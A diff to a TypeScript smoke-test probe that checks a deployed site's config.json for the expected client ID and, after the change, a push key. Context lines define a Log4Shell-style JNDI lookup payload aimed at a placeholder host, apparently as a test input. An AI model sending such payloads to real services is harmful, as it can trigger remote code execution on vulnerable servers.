@@ -5,7 +5,7 @@ import { demand, type Probe } from './probe.ts';
 const ATTACK = '$' + '{jndi:ldap://smoke.invalid/a}';
 
 export const pages: Probe = {
-  name: 'the site is served, with the ids of this user pool',
+  name: 'the site is served, with the ids of this deployment',
   look: 'the stack BarkyardSite, and the behaviour * of the distribution',
   inapplicable: ({ isLocal }) => (isLocal ? 'the local AWS that tests use serves no files' : undefined),
   async run({ site, outputs }) {
@@ -14,6 +14,7 @@ export const pages: Probe = {
     const config = await fetch(`${site}/config.json`);
     const found = JSON.stringify(readJson(await config.text()));
     demand(found.includes(outputs.UserPoolClientId), `config.json names another client: ${found}`);
+    demand(found.includes(outputs.PushKey), `config.json has another key of pushes: ${found}`);
     return undefined;
   },
 };
